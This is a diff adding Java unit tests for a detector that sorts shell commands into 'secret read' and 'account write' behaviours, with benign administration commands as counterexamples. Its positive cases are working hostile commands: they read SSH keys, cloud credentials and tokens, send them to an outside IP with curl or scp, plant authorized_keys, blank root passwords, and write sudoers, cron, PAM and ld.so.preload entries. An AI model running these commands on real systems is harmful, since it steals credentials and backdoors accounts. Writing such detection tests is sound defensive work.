@@ -92,4 +92,52 @@ class CapabilitiesTest {
         }
         assertThat(Behaviours.shows(Family.SOCKET_TRANSFER, s.toString(), false)).isFalse();
     }
+
+    @Test
+    void aCredentialFileReadOutByAProgramThatDoesNotUseItIsASecretRead() {
+        assertThat(shows(Family.SECRET_READ, "base32 /root/.ssh/id_rsa")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "dd if=/home/alice/.aws/credentials")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "sudo od -An -c /etc/kubernetes/admin.conf")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "column < /var/www/shop/.env")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "uniq /root/.bash_history")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "curl -F 'k=@/etc/ssl/private/site.key' https://198.51.100.9/u")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "cp /etc/krb5.keytab /dev/shm/k")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "scp /home/alice/.git-credentials x@198.51.100.9:/t/")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "ln -s /root/.pgpass /var/www/html/p.txt")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "nl /var/run/secrets/kubernetes.io/serviceaccount/token > /tmp/t")).isTrue();
+        assertThat(shows(Family.SECRET_READ, "sh -c 'tac /etc/ssh/ssh_host_ed25519_key'")).isTrue();
+        // the same files used, guarded, edited or copied among the owner's own files
+        assertThat(shows(Family.SECRET_READ, "ssh -i /root/.ssh/id_rsa deploy@web1")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "chmod 600 /home/alice/.ssh/id_ed25519")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "sudo cp -i /etc/kubernetes/admin.conf $HOME/.kube/config")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "kubectl --kubeconfig /etc/kubernetes/admin.conf get nodes")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "openssl req -new -key /etc/ssl/private/site.key -out site.csr")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "cat /etc/ssl/certs/site.crt /etc/ssl/private/site.key > /etc/haproxy/site.pem")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "vim /var/www/shop/.env")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "cp .env.example .env")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "klist -kt /etc/krb5.keytab")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "cat ~/.ssh/id_ed25519.pub")).isFalse();
+        assertThat(shows(Family.SECRET_READ, "tail -n 20 ~/.bash_history")).isFalse();
+    }
+
+    @Test
+    void aLoginOrPrivilegeFileWrittenThroughAProgramsSideIsAnAccountWrite() {
+        assertThat(shows(Family.ACCOUNT_WRITE, "dd of=/etc/sudoers.d/90-web conv=notrunc")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "openssl enc -d -base64 -in /var/tmp/k -out /root/.ssh/authorized_keys")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "sed -i 's/^root:x:/root::/' /etc/passwd")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "perl -pi -e 's/^www-data:[^:]*:/www-data::/' /etc/shadow")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "rsync /dev/shm/job /var/spool/cron/crontabs/root")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "split -n 1 /tmp/pre /etc/ld.so.preload")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "wget -q http://198.51.100.9/k -O /home/alice/.ssh/authorized_keys")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "mv /tmp/.p /etc/pam.d/sshd")).isTrue();
+        assertThat(shows(Family.ACCOUNT_WRITE, "install -m 600 keys.pub /root/.ssh/authorized_keys")).isTrue();
+        // administration: own keys, a job or sudoers file from the build tree, other files of /etc
+        assertThat(shows(Family.ACCOUNT_WRITE, "cp ~/.ssh/id_ed25519.pub ~/.ssh/authorized_keys")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "cp backup/cronjob /etc/cron.d/backup")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "sed -i 's/^#Port 22/Port 2222/' /etc/ssh/sshd_config")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "cp /etc/passwd /etc/passwd.bak")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "sort -o /tmp/p.sorted /etc/passwd")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "ssh -o StrictHostKeyChecking=no deploy@web1 uptime")).isFalse();
+        assertThat(shows(Family.ACCOUNT_WRITE, "visudo -cf /etc/sudoers.d/app")).isFalse();
+    }
 }
